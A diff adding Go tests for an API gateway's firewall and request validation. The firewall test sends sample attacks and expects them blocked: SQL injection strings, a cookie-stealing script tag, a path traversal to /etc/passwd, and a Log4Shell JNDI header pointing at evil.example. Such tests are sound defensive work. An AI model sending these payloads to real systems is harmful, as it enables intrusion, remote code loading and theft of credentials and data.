@@ -1,0 +1,94 @@
+package gateway
+
+import (
+	"context"
+	"net/url"
+	"os"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/moatless/moatless/internal/config"
+	"github.com/moatless/moatless/internal/proxy"
+)
+
+// auditFunc is an audit sink given as a function.
+type auditFunc func(proxy.DecisionEvent)
+
+func (f auditFunc) Record(_ context.Context, ev proxy.DecisionEvent) { f(ev) }
+
+func TestGatewayWAFBlocks(t *testing.T) {
+	var mu sync.Mutex
+	var records []proxy.DecisionEvent
+	tg := startGateway(t, func(c *config.Gateway) {
+		c.Routes[0].WAF = &config.GatewayRouteWAF{Enabled: true}
+	})
+	tg.g.opts.Audit = auditFunc(func(ev proxy.DecisionEvent) { mu.Lock(); records = append(records, ev); mu.Unlock() })
+	const secret = "Bearer s3cr3t-token-value"
+	tests := []struct {
+		name, method, path, body string
+		want                     int
+	}{
+		{"benign", "POST", "/orders", `{"item":"book","qty":1}`, 200},
+		{"sqli_query", "GET", "/orders?id=" + url.QueryEscape("1' OR '1'='1"), "", 403},
+		{"sqli_body", "POST", "/orders", `{"q":"1 UNION SELECT password FROM users--"}`, 403},
+		{"xss", "GET", "/orders?q=" + url.QueryEscape("<script>alert(document.cookie)</script>"), "", 403},
+		{"traversal", "GET", "/orders?f=" + url.QueryEscape("../../../../etc/passwd"), "", 403},
+		{"log4shell_header", "GET", "/orders/1", "", 403},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			hdr := map[string]string{"Authorization": secret, "Cookie": "session=cookie-secret-value", "Content-Type": "application/json"}
+			if tt.name == "log4shell_header" {
+				hdr["X-Api-Version"] = "${jndi:ldap://evil.example/a}"
+			}
+			var body *strings.Reader
+			if tt.body != "" {
+				body = strings.NewReader(tt.body)
+			} else {
+				body = strings.NewReader("")
+			}
+			resp, b := tg.do(t, tt.method, tt.path, body, hdr)
+			if resp.StatusCode != tt.want {
+				t.Fatalf("status %d, want %d: %s", resp.StatusCode, tt.want, b)
+			}
+			checkSecurityHeaders(t, resp.Header)
+			if tt.want == 403 && !strings.Contains(string(b), resp.Header.Get("X-Request-Id")) {
+				t.Errorf("403 body %s lacks the request ID", b)
+			}
+		})
+	}
+	logs := tg.logs.String() + tg.access.String()
+	if !strings.Contains(logs, "waf: rules 9") {
+		t.Errorf("no decision log naming rule IDs:\n%s", logs)
+	}
+	for _, leak := range []string{"s3cr3t-token-value", "cookie-secret-value", "UNION SELECT", "jndi"} {
+		if strings.Contains(logs, leak) {
+			t.Errorf("logs carry %q", leak)
+		}
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(records) < 5 || !strings.HasPrefix(records[0].Reason, "waf: rules ") || records[0].ReasonCode != "waf" {
+		t.Fatalf("audit records %+v", records)
+	}
+}
+
+func TestGatewayValidation(t *testing.T) {
+	schema := t.TempDir() + "/order.json"
+	if err := os.WriteFile(schema, []byte(`{"type":"object","required":["item","qty"],"properties":{"item":{"type":"string"},"qty":{"type":"integer","minimum":1}}}`), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	tg := startGateway(t, func(c *config.Gateway) {
+		c.Routes[0].Validation = &config.GatewayValidation{JSONSchema: schema}
+	})
+	resp, b := tg.do(t, "POST", "/orders", strings.NewReader(`{"item":"book","qty":0}`), map[string]string{"Content-Type": "application/json"})
+	if resp.StatusCode != 400 || !strings.Contains(string(b), `"pointer":"/qty"`) {
+		t.Fatalf("status %d: %s", resp.StatusCode, b)
+	}
+	checkSecurityHeaders(t, resp.Header)
+	resp, b = tg.do(t, "POST", "/orders", strings.NewReader(`{"item":"book","qty":2}`), map[string]string{"Content-Type": "application/json"})
+	if resp.StatusCode != 200 || decodeSeen(t, b).Body != `{"item":"book","qty":2}` {
+		t.Fatalf("valid body: %d %s", resp.StatusCode, b)
+	}
+}
